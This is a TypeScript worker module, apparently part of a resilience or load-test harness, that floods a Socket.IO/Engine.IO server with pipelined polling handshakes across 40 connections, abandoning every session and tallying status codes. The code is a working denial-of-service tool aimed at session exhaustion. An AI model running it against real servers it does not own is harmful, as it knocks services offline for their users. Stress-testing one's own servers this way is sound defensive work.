import { connect } from 'node:net';
import { setPriority } from 'node:os';
import type { AttackReport } from './flood-attack.ts';

/** A stranger who opens Engine.IO sessions and comes back for none of them, in a process of its own. */
export type HandshakeTask = { url: string };

const CONNECTIONS = 40;
/** Requests that one connection has under way. */
const PIPELINED = 16;
const HANDSHAKES_MAX = 600_000;
const RETRY_MS = 50;
const REQUEST = 'GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: x\r\n\r\n';
const STATUS_LINE = /HTTP\/1\.1 (\d{3}) /g;
const STATUS_LINE_BYTES = 13;

const outcomes: Record<string, number> = {};
const report: AttackReport = { handshake: outcomes };
let sent = 0;

function attack(url: string): void {
  const { hostname, port } = new URL(url);
  const socket = connect({ host: hostname, port: Number(port) });
  let rest = '';
  const send = (count: number): void => {
    if (sent >= HANDSHAKES_MAX) return;
    sent += count;
    socket.write(REQUEST.repeat(count));
  };
  socket.setEncoding('latin1');
  socket.once('connect', () => send(PIPELINED));
  socket.on('data', (chunk: string) => {
    const text = rest + chunk;
    let end = 0;
    let answers = 0;
    for (const match of text.matchAll(STATUS_LINE)) {
      const [line, status = ''] = match;
      outcomes[status] = (outcomes[status] ?? 0) + 1;
      end = match.index + line.length;
      answers += 1;
    }
    rest = text.slice(Math.max(end, text.length - STATUS_LINE_BYTES));
    if (answers > 0) send(answers);
  });
  socket.on('error', () => undefined);
  socket.once('close', () => {
    outcomes['cut'] = (outcomes['cut'] ?? 0) + 1;
    setTimeout(attack, RETRY_MS, url);
  });
}

process.once('message', ({ url }: HandshakeTask) => {
  setPriority(19);
  for (let count = 0; count < CONNECTIONS; count += 1) attack(url);
  process.once('message', () => {
    process.send?.(report, () => process.exit(0));
  });
});
